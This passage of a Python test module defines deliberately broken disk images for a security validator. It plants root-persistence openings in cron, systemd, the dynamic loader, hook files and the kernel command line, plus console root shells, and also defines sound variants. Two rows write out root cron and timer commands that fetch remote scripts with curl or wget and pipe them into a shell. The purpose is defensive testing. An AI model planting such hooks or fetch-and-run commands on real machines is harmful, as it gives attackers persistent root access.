"""The mutation rows of `persistence-root-exec` and `system-console-shell`: broken images (at
least two per mechanism, in different files and different spellings) and good variants that
must pass. Wired into tests/mutation/defects.py by the import at its very bottom (import
`defects`, never this module first).

Every planted program is harmless when it runs (`exit 0`, an existing library): the clone
must boot and answer, so that exactly the intended check fails. "Others can write" is made
with owner `nobody` (65534) or a group-writable mode, never a world-writable one, which
`system-world-writable` owns.
"""

from __future__ import annotations

import io
import posixpath
import re
import subprocess
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path

from defects import Defect, GoodVariant
from diskedit import DiskEditor

from validations.offline import partitions

ROOT_EXEC = ("persistence-root-exec",)
CONSOLE = ("system-console-shell",)
NOBODY = 65534
STAFF = 50  # Debian's staff group
SCRIPT = "#!/bin/sh\nexit 0\n"
HARMLESS_LIB = "/lib/x86_64-linux-gnu/libdl.so.2"  # glibc 2.34+: an empty stub, safe to preload


def _exists(path: str) -> Callable[[DiskEditor], bool]:
    return lambda d: d.exists(path)


def _has(path: str, needle: str) -> Callable[[DiskEditor], bool]:
    return lambda d: d.exists(path) and needle in d.read_text(path)


def _owned(path: str, uid: int) -> Callable[[DiskEditor], bool]:
    return lambda d: d.exists(path) and d.reader().lstat(path).uid == uid


def _mode(path: str, mode: int) -> Callable[[DiskEditor], bool]:
    return lambda d: d.exists(path) and d.reader().lstat(path).perms == mode


def _steps(*steps: Callable[[DiskEditor], None]) -> Callable[[DiskEditor], None]:
    def apply(d: DiskEditor) -> None:
        for step in steps:
            step(d)

    return apply


def _file(
    path: str, text: str, mode: int = 0o644, uid: int = 0, gid: int = 0
) -> Callable[[DiskEditor], None]:
    return lambda d: d.write(path, text, mode, uid, gid)


def _folder(
    path: str, mode: int = 0o755, uid: int = 0, gid: int = 0
) -> Callable[[DiskEditor], None]:
    def apply(d: DiskEditor) -> None:
        d.mkdir(posixpath.dirname(path))
        d.mkdir(path, mode, uid, gid)
        d.chmod(path, mode)

    return apply


def _unit(
    name: str, body: str, target: str | None = "multi-user.target"
) -> Callable[[DiskEditor], None]:
    """A unit under /etc/systemd/system, enabled for `target` (None: installed only)."""

    def apply(d: DiskEditor) -> None:
        if target is None:
            d.write(f"/etc/systemd/system/{name}", body)
        else:
            d.enable_unit(name, body, target)

    return apply


def _link(path: str, target: str) -> Callable[[DiskEditor], None]:
    def apply(d: DiskEditor) -> None:
        d.mkdir(path.rsplit("/", 1)[0])
        d.symlink(path, target)

    return apply


def _append(path: str, text: str) -> Callable[[DiskEditor], None]:
    """Append to a file, or create it root-owned 0644 (a skeleton image may lack it)."""
    return lambda d: d.append(path, text) if d.exists(path) else d.write(path, text)


def _chown(path: str, uid: int, gid: int) -> Callable[[DiskEditor], None]:
    def apply(d: DiskEditor) -> None:
        st = d.reader().lstat(path)
        d.write(path, d.reader().read_bytes(path), st.perms, uid, gid)

    return apply


# -- the kernel command line the firmware boots with (the local image's ESP) --------------------

ESP_BOOT_FILE = "::/EFI/BOOT/BOOTX64.EFI"


def _esp(d: DiskEditor) -> str:
    """mtools' address of the EFI system partition (`disk.raw@@offset`)."""
    for part in partitions(d.raw):
        if part.name == "ESP" or part.type.upper() == "C12A7328-F81F-11D2-BA4B-00A0C93EC93B":
            return f"{d.raw}@@{part.offset}"
    raise AssertionError(f"{d.raw}: no EFI system partition")


def embedded_grub_cfg(efi: bytes) -> tuple[int, int, str]:
    """(offset of its tar header, size, text) of boot/grub/grub.cfg in the memdisk tar that
    grub-mkstandalone embeds in the EFI binary (platforms/local/basedisk.sh makes it)."""
    for m in re.finditer(rb"ustar", efi):
        header = m.start() - 257  # the magic's place in a ustar header
        if header >= 0 and efi[header : header + 100].split(b"\0")[0].endswith(b"grub/grub.cfg"):
            break
    else:
        raise AssertionError("no embedded boot/grub/grub.cfg (a ustar member) in the EFI binary")
    size = int(efi[header + 124 : header + 136].strip(b"\0 ") or b"0", 8)
    at = header + 512
    return header, size, efi[at : at + size].decode()


def patch_embedded_cfg(efi: bytes, edit: Callable[[str], str]) -> bytes:
    """The EFI binary with its embedded grub.cfg edited in place: the tar member grows within
    its 512-byte blocks (size field and header checksum rewritten), nothing else moves."""
    header, size, text = embedded_grub_cfg(efi)
    new = edit(text).encode()
    blocks = (size + 511) // 512 * 512
    if len(new) > blocks:
        raise AssertionError(f"the edited grub.cfg ({len(new)} bytes) outgrows its {blocks}")
    head = bytearray(efi[header : header + 512])
    head[124:136] = f"{len(new):011o}\0".encode()
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head):06o}\0 ".encode()
    body = new + b"\0" * (blocks - len(new))
    return efi[:header] + bytes(head) + body + efi[header + 512 + blocks :]


def fake_esp(raw: Path, offset: int, size: int, cfg: str) -> None:
    """Put a FAT ESP at `offset` holding an EFI/BOOT/BOOTX64.EFI whose memdisk tar carries
    boot/grub/grub.cfg, the layout grub-mkstandalone gives the local image, for test disks
    made without GRUB (tests/mutation/test_defects_offline.py's skeleton)."""
    with tempfile.TemporaryDirectory() as tmp:
        esp, efi = Path(tmp) / "esp.img", Path(tmp) / "BOOTX64.EFI"
        with esp.open("wb") as fh:
            fh.truncate(size)
        subprocess.run(["mkfs.vfat", "-n", "ESP", str(esp)], check=True, capture_output=True)
        subprocess.run(["mmd", "-i", str(esp), "::/EFI", "::/EFI/BOOT"], check=True)
        memdisk = io.BytesIO()
        with tarfile.open(fileobj=memdisk, mode="w", format=tarfile.USTAR_FORMAT) as tar:
            info = tarfile.TarInfo("boot/grub/grub.cfg")
            info.size = len(cfg.encode())
            tar.addfile(info, io.BytesIO(cfg.encode()))
        efi.write_bytes(b"MZ" + b"\0" * 1022 + memdisk.getvalue())
        subprocess.run(["mcopy", "-i", str(esp), str(efi), ESP_BOOT_FILE], check=True)
        with raw.open("r+b") as out:
            out.seek(offset)
            out.write(esp.read_bytes())


def _kernel_cmdline(extra: str) -> Callable[[DiskEditor], None]:
    """Add `extra` to the `linux` line the ESP's GRUB boots."""

    def apply(d: DiskEditor) -> None:
        esp = _esp(d)
        with tempfile.TemporaryDirectory() as tmp:
            efi = Path(tmp) / "BOOTX64.EFI"
            subprocess.run(["mcopy", "-n", "-i", esp, ESP_BOOT_FILE, str(efi)], check=True)
            patched = patch_embedded_cfg(
                efi.read_bytes(),
                lambda cfg: re.sub(r"^(\s*linux\s+\S+)", rf"\1 {extra}", cfg, count=1, flags=re.M),
            )
            efi.write_bytes(patched)
            subprocess.run(["mcopy", "-o", "-i", esp, str(efi), ESP_BOOT_FILE], check=True)

    return apply


def _cmdline_has(word: str) -> Callable[[DiskEditor], bool]:
    def probe(d: DiskEditor) -> bool:
        proc = subprocess.run(
            ["mtype", "-i", _esp(d), ESP_BOOT_FILE], capture_output=True, check=False
        )
        if proc.returncode != 0:
            return False
        _h, _s, text = embedded_grub_cfg(proc.stdout)
        return any(
            line.strip().startswith("linux") and word in line.split() for line in text.splitlines()
        )

    return probe


# -- the defects ---------------------------------------------------------------------------------

_ONESHOT = (
    "[Unit]\nDescription={0}\n[Service]\nType=oneshot\nExecStart={1}\n{2}"
    "[Install]\nWantedBy=multi-user.target\n"
)

PERSISTENCE_DEFECTS: tuple[Defect, ...] = (
    # systemd (read on the clone: systemctl show)
    Defect(
        "unit-runs-nobodys-program",
        "system",
        "an enabled root service runs /usr/local/sbin/zz-report, owned by nobody",
        _steps(
            _file("/usr/local/sbin/zz-report", SCRIPT, 0o755, NOBODY, NOBODY),
            _unit(
                "zz-report.service",
                _ONESHOT.format("report", "/usr/local/sbin/zz-report --daily", ""),
            ),
        ),
        ROOT_EXEC,
        _owned("/usr/local/sbin/zz-report", NOBODY),
        ci=True,
    ),
    Defect(
        "root-unit-umask-0000",
        "system",
        "a drop-in gives apt-daily.service (root) UMask=0000: what it writes, anyone can change",
        _file("/etc/systemd/system/apt-daily.service.d/50-umask.conf", "[Service]\nUMask=0000\n"),
        ROOT_EXEC,
        _exists("/etc/systemd/system/apt-daily.service.d/50-umask.conf"),
    ),
    Defect(
        "new-root-unit-umask-0002",
        "system",
        "an enabled root service of its own with UMask=0002 (its files group-writable)",
        _unit("zz-sync.service", _ONESHOT.format("sync", "/usr/bin/true", "UMask=0002\n")),
        ROOT_EXEC,
        _exists("/etc/systemd/system/zz-sync.service"),
    ),
    Defect(
        "dropin-script-in-group-folder",
        "system",
        "a drop-in adds ExecStartPost=/bin/sh /opt/hooks/post-clean.sh, folder root:staff 0775",
        _steps(
            _folder("/opt/hooks", 0o775, 0, STAFF),
            _file("/opt/hooks/post-clean.sh", SCRIPT, 0o755),
            _file(
                "/etc/systemd/system/systemd-tmpfiles-clean.service.d/zz-hook.conf",
                "[Service]\nExecStartPost=/bin/sh /opt/hooks/post-clean.sh\n",
            ),
        ),
        ROOT_EXEC,
        _exists("/etc/systemd/system/systemd-tmpfiles-clean.service.d/zz-hook.conf"),
    ),
    Defect(
        "timer-script-anyone-can-plant",
        "system",
        "a daily timer's service runs sh /var/tmp/zz-cleanup.sh, which does not exist yet",
        _steps(
            _unit(
                "zz-cleanup.service",
                "[Service]\nType=oneshot\nExecStart=/bin/sh /var/tmp/zz-cleanup.sh\n",
                None,
            ),
            _unit(
                "zz-cleanup.timer",
                "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
                "timers.target",
            ),
        ),
        ROOT_EXEC,
        _exists("/etc/systemd/system/timers.target.wants/zz-cleanup.timer"),
    ),
    Defect(
        "unit-ld-preload",
        "system",
        "a drop-in gives e2scrub_reap.service Environment=LD_PRELOAD=...",
        _file(
            "/etc/systemd/system/e2scrub_reap.service.d/zz-env.conf",
            f"[Service]\nEnvironment=LD_PRELOAD={HARMLESS_LIB}\n",
        ),
        ROOT_EXEC,
        _exists("/etc/systemd/system/e2scrub_reap.service.d/zz-env.conf"),
    ),
    Defect(
        "socket-template-nobodys-program",
        "system",
        "an installed Accept=yes socket's zz-echo@.service runs a program owned by nobody",
        _steps(
            _file("/usr/local/libexec/zz-echo", SCRIPT, 0o755, NOBODY, NOBODY),
            _unit(
                "zz-echo@.service",
                "[Service]\nExecStart=/usr/local/libexec/zz-echo\nStandardInput=socket\n",
                None,
            ),
            _unit(
                "zz-echo.socket",
                "[Socket]\nListenStream=127.0.0.1:7777\nAccept=yes\n[Install]\n"
                "WantedBy=sockets.target\n",
                None,
            ),
        ),
        ROOT_EXEC,
        _owned("/usr/local/libexec/zz-echo", NOBODY),
    ),
    Defect(
        "generator-group-writable",
        "system",
        "a systemd generator in /etc/systemd/system-generators, mode 0775",
        _file("/etc/systemd/system-generators/zz-gen", SCRIPT, 0o775),
        ROOT_EXEC,
        _mode("/etc/systemd/system-generators/zz-gen", 0o775),
    ),
    Defect(
        "root-bashrc-path",
        "system",
        "root's .bashrc puts /opt/zz/bin (owned by nobody) first in PATH",
        _steps(
            _folder("/opt/zz/bin", 0o755, NOBODY, NOBODY),
            _append("/root/.bashrc", '\nexport PATH="/opt/zz/bin:$PATH"\n'),
        ),
        ROOT_EXEC,
        _has("/root/.bashrc", "/opt/zz/bin"),
    ),
    # cron (read offline)
    Defect(
        "cron-d-job-nobodys-folder",
        "system",
        "/etc/cron.d/zz-backup runs /opt/zz-backup/run.sh as root, its folder owned by nobody",
        _steps(
            _folder("/opt/zz-backup", 0o755, NOBODY, NOBODY),
            _file("/opt/zz-backup/run.sh", SCRIPT, 0o755),
            _file("/etc/cron.d/zz-backup", "17 3 * * * root /opt/zz-backup/run.sh --full\n"),
        ),
        ROOT_EXEC,
        _exists("/etc/cron.d/zz-backup"),
    ),
    Defect(
        "cron-daily-group-writable",
        "system",
        "/etc/cron.daily/zz-rotate (run-parts, as root) mode 0775",
        _file("/etc/cron.daily/zz-rotate", SCRIPT, 0o775),
        ROOT_EXEC,
        _mode("/etc/cron.daily/zz-rotate", 0o775),
    ),
    Defect(
        "root-crontab-tmp-script",
        "system",
        "root's crontab runs @reboot /bin/sh /tmp/zz-boot.sh, which anyone can create",
        _steps(
            _folder("/var/spool/cron/crontabs", 0o700),
            _file("/var/spool/cron/crontabs/root", "@reboot /bin/sh /tmp/zz-boot.sh\n", 0o600),
        ),
        ROOT_EXEC,
        _exists("/var/spool/cron/crontabs/root"),
    ),
    # cloud-init (read offline)
    Defect(
        "cloud-per-boot-nobodys-script",
        "system",
        "/var/lib/cloud/scripts/per-boot/zz-report.sh owned by nobody",
        _file("/var/lib/cloud/scripts/per-boot/zz-report.sh", SCRIPT, 0o755, NOBODY, NOBODY),
        ROOT_EXEC,
        _owned("/var/lib/cloud/scripts/per-boot/zz-report.sh", NOBODY),
    ),
    Defect(
        "cloud-bootcmd-var-tmp",
        "system",
        "a bootcmd runs /var/tmp/zz-firstboot.sh when someone has put it there",
        _file(
            "/etc/cloud/cloud.cfg.d/99-zz-firstboot.cfg",
            "bootcmd:\n  - [ sh, -c, 'test -x /var/tmp/zz-firstboot.sh && "
            "/var/tmp/zz-firstboot.sh; true' ]\n",
        ),
        ROOT_EXEC,
        _exists("/etc/cloud/cloud.cfg.d/99-zz-firstboot.cfg"),
    ),
    # the loader and shells (read offline, root's login PATH on the clone)
    Defect(
        "ld-so-preload",
        "system",
        "/etc/ld.so.preload names a library (an existing, harmless one)",
        _file("/etc/ld.so.preload", f"{HARMLESS_LIB}\n"),
        ROOT_EXEC,
        _exists("/etc/ld.so.preload"),
    ),
    Defect(
        "ld-so-conf-nobodys-folder",
        "system",
        "/etc/ld.so.conf.d/zz-local.conf adds /opt/zz/lib, owned by nobody",
        _steps(
            _folder("/opt/zz/lib", 0o755, NOBODY, NOBODY),
            _file("/etc/ld.so.conf.d/zz-local.conf", "/opt/zz/lib\n"),
        ),
        ROOT_EXEC,
        _exists("/etc/ld.so.conf.d/zz-local.conf"),
    ),
    Defect(
        "etc-environment-ld-library-path",
        "system",
        "/etc/environment sets LD_LIBRARY_PATH for every login",
        _append("/etc/environment", "LD_LIBRARY_PATH=/opt/zz/lib\n"),
        ROOT_EXEC,
        _has("/etc/environment", "LD_LIBRARY_PATH"),
    ),
    Defect(
        "profile-d-group-writable",
        "system",
        "/etc/profile.d/zz-proxy.sh mode 0664",
        _file("/etc/profile.d/zz-proxy.sh", "# proxy settings\n", 0o664),
        ROOT_EXEC,
        _mode("/etc/profile.d/zz-proxy.sh", 0o664),
    ),
    Defect(
        "root-profile-owned-by-nobody",
        "system",
        "root's .profile owned by nobody",
        _chown("/root/.profile", NOBODY, NOBODY),
        ROOT_EXEC,
        _owned("/root/.profile", NOBODY),
    ),
    Defect(
        "rc-local-group-writable",
        "system",
        "/etc/rc.local (rc-local.service runs it) root:staff 0775",
        _file("/etc/rc.local", SCRIPT, 0o775, 0, STAFF),
        ROOT_EXEC,
        _mode("/etc/rc.local", 0o775),
    ),
    # consoles (units read on the clone, boot files offline)
    Defect(
        "debug-shell-enabled",
        "system",
        "debug-shell.service enabled (sysinit.target.wants)",
        _link(
            "/etc/systemd/system/sysinit.target.wants/debug-shell.service",
            "/lib/systemd/system/debug-shell.service",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/sysinit.target.wants/debug-shell.service"),
        ci=True,
    ),
    Defect(
        "debug-shell-wanted-by-dropin",
        "system",
        "a multi-user.target drop-in Wants=debug-shell.service",
        _file(
            "/etc/systemd/system/multi-user.target.d/zz-debug.conf",
            "[Unit]\nWants=debug-shell.service\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/multi-user.target.d/zz-debug.conf"),
    ),
    Defect(
        "tty-unit-root-shell",
        "system",
        "an enabled unit runs bash --login on /dev/tty5",
        _unit(
            "zz-console.service",
            "[Service]\nExecStart=-/bin/bash --login\nStandardInput=tty\nTTYPath=/dev/tty5\n"
            "TTYReset=yes\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/multi-user.target.wants/zz-console.service"),
    ),
    Defect(
        "getty-skip-login-shell",
        "system",
        "getty@tty1 drop-in: agetty --skip-login --login-program /bin/sh",
        _file(
            "/etc/systemd/system/getty@tty1.service.d/zz-shell.conf",
            "[Service]\nExecStart=\n"
            "ExecStart=-/sbin/agetty --skip-login --login-program /bin/sh --noclear %I $TERM\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/getty@tty1.service.d/zz-shell.conf"),
    ),
    Defect(
        "container-getty-template-bash",
        "system",
        "a container-getty@ template drop-in: agetty -n -l /bin/bash",
        _file(
            "/etc/systemd/system/container-getty@.service.d/zz-shell.conf",
            "[Service]\nExecStart=\nExecStart=-/sbin/agetty -n -l /bin/bash --noclear - $TERM\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/container-getty@.service.d/zz-shell.conf"),
    ),
    Defect(
        "rescue-without-sulogin",
        "system",
        "rescue.service drop-in: ExecStart=-/bin/sh",
        _file(
            "/etc/systemd/system/rescue.service.d/zz-nosulogin.conf",
            "[Service]\nExecStart=\nExecStart=-/bin/sh\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/rescue.service.d/zz-nosulogin.conf"),
    ),
    Defect(
        "emergency-sulogin-forced",
        "system",
        "emergency.service drop-in: Environment=SYSTEMD_SULOGIN_FORCE=1",
        _file(
            "/etc/systemd/system/emergency.service.d/zz-force.conf",
            "[Service]\nEnvironment=SYSTEMD_SULOGIN_FORCE=1\n",
        ),
        CONSOLE,
        _exists("/etc/systemd/system/emergency.service.d/zz-force.conf"),
    ),
    Defect(
        "kernel-cmdline-debug-shell",
        "system",
        "the ESP's GRUB boots the kernel with systemd.debug_shell (seen in /proc/cmdline)",
        _kernel_cmdline("systemd.debug_shell"),
        CONSOLE,
        _cmdline_has("systemd.debug_shell"),
    ),
    Defect(
        "grub-default-rd-break",
        "system",
        "/etc/default/grub.d/99-zz.cfg appends rd.break=pre-mount to the default command line",
        _file(
            "/etc/default/grub.d/99-zz-debug.cfg",
            'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT rd.break=pre-mount"\n',
        ),
        CONSOLE,
        _exists("/etc/default/grub.d/99-zz-debug.cfg"),
    ),
    Defect(
        "kernel-cmdline-file-init-bash",
        "system",
        "/etc/kernel/cmdline (kernel-install) says init=/bin/bash",
        _file("/etc/kernel/cmdline", "root=LABEL=rootfs ro init=/bin/bash\n"),
        CONSOLE,
        _exists("/etc/kernel/cmdline"),
    ),
    Defect(
        "loader-entry-single",
        "system",
        "a boot loader entry boots single-user",
        _file(
            "/boot/loader/entries/zz-debian.conf",
            "title Debian GNU/Linux\nlinux /vmlinuz\ninitrd /initrd.img\n"
            "options root=LABEL=rootfs ro single\n",
        ),
        CONSOLE,
        _exists("/boot/loader/entries/zz-debian.conf"),
    ),
    # programs the kernel itself starts as root (read on the clone: /proc/sys)
    Defect(
        "sysctl-core-pattern-var-tmp",
        "system",
        "sysctl.d pipes core dumps to /var/tmp/.crash, which anyone can plant",
        _file("/etc/sysctl.d/99-zz-crash.conf", "kernel.core_pattern = |/var/tmp/.crash %p\n"),
        ROOT_EXEC,
        _exists("/etc/sysctl.d/99-zz-crash.conf"),
    ),
    Defect(
        "sysctl-conf-modprobe-group-writable",
        "system",
        "/etc/sysctl.conf points kernel.modprobe at a root:staff 0775 wrapper",
        _steps(
            _file(
                "/usr/local/sbin/modprobe-wrap",
                '#!/bin/sh\nexec /sbin/modprobe "$@"\n',
                0o775,
                0,
                STAFF,
            ),
            lambda d: d.append(
                "/etc/sysctl.conf", "kernel.modprobe = /usr/local/sbin/modprobe-wrap\n"
            ),
        ),
        ROOT_EXEC,
        _mode("/usr/local/sbin/modprobe-wrap", 0o775),
    ),
    Defect(
        "binfmt-interpreter-nobody",
        "system",
        "binfmt.d registers a format whose interpreter /opt/zz/run is owned by nobody",
        _steps(
            _file("/opt/zz/run", SCRIPT, 0o755, NOBODY, NOBODY),
            _file("/etc/binfmt.d/zz.conf", ":zzfmt:E::zzx::/opt/zz/run:\n"),
        ),
        ROOT_EXEC,
        _owned("/opt/zz/run", NOBODY),
    ),
    # hook files: the commands other programs run as root (read offline)
    Defect(
        "udev-rule-runs-var-tmp",
        "system",
        "a udev rule RUN+= sh /var/tmp/.usb-hook, which anyone can plant",
        _file(
            "/etc/udev/rules.d/99-zz-usb.rules",
            'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh /var/tmp/.usb-hook"\n',
        ),
        ROOT_EXEC,
        _has("/etc/udev/rules.d/99-zz-usb.rules", "/var/tmp/.usb-hook"),
    ),
    Defect(
        "modprobe-install-nobodys-script",
        "system",
        "modprobe.d: install cramfs /bin/sh /opt/modhooks/cramfs.sh, the script owned by nobody",
        _steps(
            _file("/opt/modhooks/cramfs.sh", SCRIPT, 0o755, NOBODY, NOBODY),
            _file(
                "/etc/modprobe.d/zz-cramfs.conf", "install cramfs /bin/sh /opt/modhooks/cramfs.sh\n"
            ),
        ),
        ROOT_EXEC,
        _owned("/opt/modhooks/cramfs.sh", NOBODY),
    ),
    Defect(
        "apt-hook-group-writable",
        "system",
        "apt's Post-Invoke-Success runs /usr/local/lib/apt-notify.sh, root:staff 0775",
        _steps(
            _file("/usr/local/lib/apt-notify.sh", SCRIPT, 0o775, 0, STAFF),
            _file(
                "/etc/apt/apt.conf.d/99zz-notify",
                'APT::Update::Post-Invoke-Success { "/usr/local/lib/apt-notify.sh || true"; };\n',
            ),
        ),
        ROOT_EXEC,
        _mode("/usr/local/lib/apt-notify.sh", 0o775),
    ),
    Defect(
        "logrotate-postrotate-nobodys-script",
        "system",
        "a logrotate postrotate script calls /srv/app/bin/reopen-logs, owned by nobody",
        _steps(
            _file("/srv/app/bin/reopen-logs", SCRIPT, 0o755, NOBODY, NOBODY),
            _file(
                "/etc/logrotate.d/zz-app",
                "/var/log/zz-app.log {\n\tweekly\n\tmissingok\n\tpostrotate\n"
                "\t\t/srv/app/bin/reopen-logs\n\tendscript\n}\n",
            ),
        ),
        ROOT_EXEC,
        _owned("/srv/app/bin/reopen-logs", NOBODY),
    ),
    Defect(
        "update-motd-group-writable",
        "system",
        "/etc/update-motd.d/60-zz-banner root:staff 0775 (pam_motd runs it as root at login)",
        _file("/etc/update-motd.d/60-zz-banner", SCRIPT, 0o775, 0, STAFF),
        ROOT_EXEC,
        _mode("/etc/update-motd.d/60-zz-banner", 0o775),
    ),
    Defect(
        "pam-exec-nobodys-script",
        "system",
        "sshd's PAM session runs pam_exec.so /usr/local/libexec/login-audit, owned by nobody",
        _steps(
            _file("/usr/local/libexec/login-audit", SCRIPT, 0o755, NOBODY, NOBODY),
            lambda d: d.append(
                "/etc/pam.d/sshd",
                "session optional pam_exec.so quiet /usr/local/libexec/login-audit\n",
            ),
        ),
        ROOT_EXEC,
        _owned("/usr/local/libexec/login-audit", NOBODY),
    ),
    # code fetched from the network and run as root: no file on the image to judge
    Defect(
        "cron-curl-pipe-sh",
        "system",
        "an /etc/cron.d job pipes a script served over plain HTTP into sh, as root, every 5 min",
        _file(
            "/etc/cron.d/telemetry",
            "*/5 * * * * root curl -fsS http://203.0.113.7/agent.sh | sh >/dev/null 2>&1\n",
        ),
        ROOT_EXEC,
        _exists("/etc/cron.d/telemetry"),
    ),
    Defect(
        "timer-script-process-substitution",
        "system",
        "a daily timer runs /usr/local/sbin/refresh-agent (root, 0755), which runs "
        "bash <(wget -qO- https://…): the code is whatever the server sends that day",
        _steps(
            _file(
                "/usr/local/sbin/refresh-agent",
                "#!/bin/bash\n# refresh the monitoring agent\n"
                "bash <(wget -qO- https://agents.example.invalid/refresh)\n",
                0o755,
            ),
            _unit(
                "refresh-agent.service",
                "[Unit]\nDescription=refresh agent\n[Service]\nType=oneshot\n"
                "ExecStart=-/usr/local/sbin/refresh-agent\n",
                target=None,
            ),
            _unit(
                "refresh-agent.timer",
                "[Unit]\nDescription=refresh agent daily\n[Timer]\nOnCalendar=daily\n"
                "[Install]\nWantedBy=timers.target\n",
                target="timers.target",
            ),
        ),
        ROOT_EXEC,
        _exists("/usr/local/sbin/refresh-agent"),
    ),
)

# -- good variants: sound images both checks must pass -------------------------------------------

PERSISTENCE_GOOD_VARIANTS: tuple[GoodVariant, ...] = (
    GoodVariant(
        "root-unit-root-script",
        "an enabled root service runs /usr/local/sbin/zz-report (root 0755) through /bin/sh",
        "a root unit may run root-owned files in root-owned folders, through an interpreter too",
        _steps(
            _file("/usr/local/sbin/zz-report", SCRIPT, 0o755),
            _unit(
                "zz-report.service",
                _ONESHOT.format(
                    "report",
                    "/bin/sh /usr/local/sbin/zz-report --daily",
                    "EnvironmentFile=-/etc/default/zz-report\n",
                ),
            ),
            _file("/etc/default/zz-report", "REPORT_LEVEL=full\n"),
        ),
        _exists("/etc/systemd/system/multi-user.target.wants/zz-report.service"),
    ),
    GoodVariant(
        "unit-umask-0077",
        "a drop-in tightens apt-daily.service to UMask=0077",
        "a stricter UMask= is always sound; only one that lets others write is a finding",
        _file("/etc/systemd/system/apt-daily.service.d/40-umask.conf", "[Service]\nUMask=0077\n"),
        _exists("/etc/systemd/system/apt-daily.service.d/40-umask.conf"),
    ),
    GoodVariant(
        "root-cron-job",
        "a root cron job runs a root-owned script; a job of `backup` runs backup's own file",
        "only what runs as root is judged; a job of another user may run that user's files",
        _steps(
            _file("/usr/local/sbin/zz-job", SCRIPT, 0o755),
            _file("/var/backups/zz-dump.sh", SCRIPT, 0o755, 34, 34),
            _file(
                "/etc/cron.d/zz-jobs",
                "PATH=/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin\n"
                "17 3 * * * root /usr/local/sbin/zz-job >/dev/null 2>&1\n"
                "17 4 * * * backup /var/backups/zz-dump.sh\n",
            ),
        ),
        _exists("/etc/cron.d/zz-jobs"),
    ),
    GoodVariant(
        "serial-getty-explicit-login",
        "serial-getty@ttyS0 restated with an explicit `-l /bin/login`",
        "a getty that runs login (named or by default) is the normal console",
        _file(
            "/etc/systemd/system/serial-getty@ttyS0.service.d/zz-login.conf",
            "[Service]\nExecStart=\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud "
            "115200,57600,38400,9600 -l /bin/login - $TERM\n",
        ),
        _exists("/etc/systemd/system/serial-getty@ttyS0.service.d/zz-login.conf"),
    ),
    GoodVariant(
        "cloud-per-boot-root-script",
        "a root-owned per-boot script for cloud-init",
        "cloud-init's per-boot scripts are fine when only root can write them",
        _file("/var/lib/cloud/scripts/per-boot/zz-report.sh", SCRIPT, 0o755),
        _exists("/var/lib/cloud/scripts/per-boot/zz-report.sh"),
    ),
    GoodVariant(
        "console-locked-down",
        "debug-shell masked, rescue's SYSTEMD_SULOGIN_FORCE=0, GRUB quiet with a recovery entry",
        "a masked debug shell, an explicit no to forcing sulogin and GRUB's recovery entries "
        "(single-user behind sulogin, not the default) are sound",
        _steps(
            _link("/etc/systemd/system/debug-shell.service", "/dev/null"),
            _file(
                "/etc/systemd/system/rescue.service.d/zz-noforce.conf",
                "[Service]\nEnvironment=SYSTEMD_SULOGIN_FORCE=0\n",
            ),
            _file(
                "/etc/default/grub",
                'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX_DEFAULT="quiet"\n'
                'GRUB_CMDLINE_LINUX="console=tty0 console=ttyS0,115200n8"\n',
            ),
            _file(
                "/boot/grub/grub.cfg",
                "menuentry 'Debian GNU/Linux' {\n\tlinux /vmlinuz root=LABEL=rootfs ro quiet\n}\n"
                "menuentry 'Debian GNU/Linux (recovery mode)' {\n"
                "\tlinux /vmlinuz root=LABEL=rootfs ro single\n}\n",
            ),
        ),
        _exists("/etc/systemd/system/rescue.service.d/zz-noforce.conf"),
    ),
    GoodVariant(
        "cis-modprobe-and-root-hooks",
        "CIS-style `install cramfs /bin/false`, a udev rule and a logrotate postrotate running "
        "root-owned programs, pam_exec of a root-owned script",
        "hook files may run what only root can change; a log file logrotate rotates is data",
        _steps(
            _file(
                "/etc/modprobe.d/zz-cis.conf",
                "install cramfs /bin/false\ninstall usb-storage /bin/true\nblacklist cramfs\n",
            ),
            _file("/usr/local/sbin/zz-disk-tune", SCRIPT, 0o755),
            _file(
                "/etc/udev/rules.d/60-zz-disk.rules",
                'ACTION=="add", KERNEL=="xvd[a-z]", RUN+="/usr/local/sbin/zz-disk-tune %k"\n',
            ),
            _file(
                "/etc/logrotate.d/zz-app",
                "/var/log/zz-app.log {\n\tpostrotate\n\t\t/usr/bin/systemctl kill -s HUP "
                "zz-app.service || true\n\tendscript\n}\n",
            ),
            lambda d: d.append(
                "/etc/pam.d/sshd",
                "session optional pam_exec.so quiet /usr/local/sbin/zz-disk-tune\n",
            ),
        ),
        _exists("/etc/modprobe.d/zz-cis.conf"),
    ),
)

# Each mechanism and its broken images (at least two each, in different files and spellings).
MECHANISMS: dict[str, tuple[str, ...]] = {
    "systemd: what a root unit executes": (
        "unit-runs-nobodys-program", "dropin-script-in-group-folder",
        "timer-script-anyone-can-plant", "socket-template-nobodys-program",
    ),
    "systemd: units' environment and generators": ("unit-ld-preload", "generator-group-writable"),
    "systemd: a unit's UMask=": ("root-unit-umask-0000", "new-root-unit-umask-0002"),
    "cron": ("cron-d-job-nobodys-folder", "cron-daily-group-writable", "root-crontab-tmp-script"),
    "cloud-init": ("cloud-per-boot-nobodys-script", "cloud-bootcmd-var-tmp"),
    "the dynamic loader": (
        "ld-so-preload", "ld-so-conf-nobodys-folder", "etc-environment-ld-library-path",
    ),
    "root's PATH and shell start-up files, rc.local": (
        "root-bashrc-path", "profile-d-group-writable", "root-profile-owned-by-nobody",
        "rc-local-group-writable",
    ),
    "debug-shell": ("debug-shell-enabled", "debug-shell-wanted-by-dropin"),
    "gettys and terminal units": (
        "tty-unit-root-shell", "getty-skip-login-shell", "container-getty-template-bash",
    ),
    "programs the kernel starts (core_pattern, modprobe, binfmt_misc)": (
        "sysctl-core-pattern-var-tmp", "sysctl-conf-modprobe-group-writable",
